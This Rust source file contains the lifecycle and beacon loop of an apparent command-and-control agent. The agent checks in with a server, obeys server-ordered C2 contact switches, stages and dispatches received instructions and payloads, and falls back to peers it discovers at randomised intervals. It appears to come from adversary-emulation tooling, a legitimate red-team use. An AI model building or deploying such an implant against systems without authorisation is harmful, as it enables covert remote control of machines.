use log::{info, warn};
use rand::Rng;
use std::time::{Duration, Instant};

use crate::agent::Agent;
use crate::errors::{AgentError, Result};
use crate::instructions::Beacon;

// Fallback pause when the server never told us how long to sleep.
pub const DEFAULT_SLEEP_SECS: u64 = 15;

/// Full agent lifecycle: initialize, delay, beacon until the watchdog
/// trips or channel recovery becomes impossible, then tear down.
pub async fn run(mut agent: Agent) -> Result<()> {
    agent.initialize().await?;
    agent.display();
    info!("initial delay={}", agent.initial_delay());
    agent.sleep(agent.initial_delay()).await;

    let outcome = beacon_loop(&mut agent, DEFAULT_SLEEP_SECS).await;
    agent.terminate().await;
    outcome
}

pub(crate) async fn beacon_loop(agent: &mut Agent, default_sleep: u64) -> Result<()> {
    let mut normal_sleep = default_sleep;
    let mut last_discovery = Instant::now();
    let mut discovery_after = discovery_interval();

    while agent.watchdog_ok() {
        match agent.beacon().await {
            None => {
                info!("beacon: DEAD");
                match agent.handle_beacon_failure().await {
                    // Switched to a peer; beacon again right away.
                    Ok(true) => {}
                    Ok(false) => agent.sleep(normal_sleep).await,
                    Err(e) => {
                        warn!("Peer fallback failed: {}", e);
                        if agent.has_successful_channel() {
                            agent.sleep(2 * normal_sleep).await;
                            agent.restore_first_successful_channel().await;
                        } else if matches!(e, AgentError::NoPeersAvailable) {
                            // Nothing ever worked and no peer was ever
                            // known; there is nowhere left to go.
                            return Err(e);
                        } else {
                            // A recycled or incompatible pool can still
                            // change; keep beaconing.
                            agent.sleep(normal_sleep).await;
                        }
                    }
                }
            }
            Some(raw) => match Beacon::parse(&raw) {
                Err(e) => {
                    warn!("{}", e);
                    agent.sleep(normal_sleep).await;
                }
                Ok(beacon) => {
                    info!("beacon: ALIVE");
                    agent
                        .handle_successful_beacon(&beacon.paw, beacon.watchdog)
                        .await;

                    if let Some(new_contact) = beacon.new_contact.as_deref() {
                        if !new_contact.is_empty() {
                            if let Err(e) = agent.switch_c2_contact(new_contact, "").await {
                                warn!("Requested contact switch failed: {}", e);
                            }
                        }
                    }

                    match beacon.decode_instructions() {
                        Err(e) => {
                            warn!("{}", e);
                            agent.sleep(normal_sleep).await;
                        }
                        Ok(instructions) if !instructions.is_empty() => {
                            for instruction in instructions {
                                if instruction.deadman {
                                    agent.store_deadman_instruction(instruction);
                                    continue;
                                }
                                info!("Running instruction {}", instruction.id);
                                let staged = agent
                                    .stage_instruction_payloads(&instruction.payloads)
                                    .await;
                                let pause = instruction.sleep;
                                agent.dispatch_instruction(instruction, staged);
                                agent.sleep(pause).await;
                            }
                        }
                        Ok(_) => {
                            normal_sleep = beacon.sleep;
                            agent.sleep(beacon.sleep).await;
                        }
                    }
                }
            },
        }

        if last_discovery.elapsed() >= discovery_after {
            agent.discover_peers().await;
            last_discovery = Instant::now();
            discovery_after = discovery_interval();
        }
    }
    info!("Watchdog expired; leaving beacon loop");
    Ok(())
}

// The discovery cadence: somewhere between five and seven minutes.
fn discovery_interval() -> Duration {
    Duration::from_secs(rand::thread_rng().gen_range(300..420))
}
